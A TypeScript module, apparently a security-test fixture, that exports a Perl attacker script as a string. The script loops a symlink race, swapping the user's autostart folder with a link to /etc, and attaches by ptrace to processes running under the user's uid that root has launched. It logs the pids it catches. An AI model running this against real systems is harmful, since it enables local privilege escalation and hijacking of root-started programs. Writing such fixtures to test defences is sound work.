/**
 * A perl program (every Debian has perl) of an attacker who waits for root to start anything as them: they could attach
 * to it, and type into root's terminal through it. Meanwhile their folder of login entries switches between a folder
 * and a link to /etc. What they catch is written to the file.
 */
export const hunter = String.raw`
my ($config, $caught) = @ARGV;
my $attach = 101; # ptrace, on x86-64
while (1) {
  rename "$config/autostart", "$config/folder"; symlink "/etc", "$config/autostart";
  opendir my $proc, "/proc";
  for my $pid (grep { /^\d+$/ && $_ != $$ } readdir $proc) {
    next unless ((stat "/proc/$pid")[4] // -1) == $<;
    next unless syscall($attach, 16, $pid + 0, 0, 0) == 0;
    open my $file, ">>", $caught; print $file "$pid\n"; close $file;
  }
  closedir $proc;
  select undef, undef, undef, 0.003;
  unlink "$config/autostart"; rename "$config/folder", "$config/autostart";
}
`
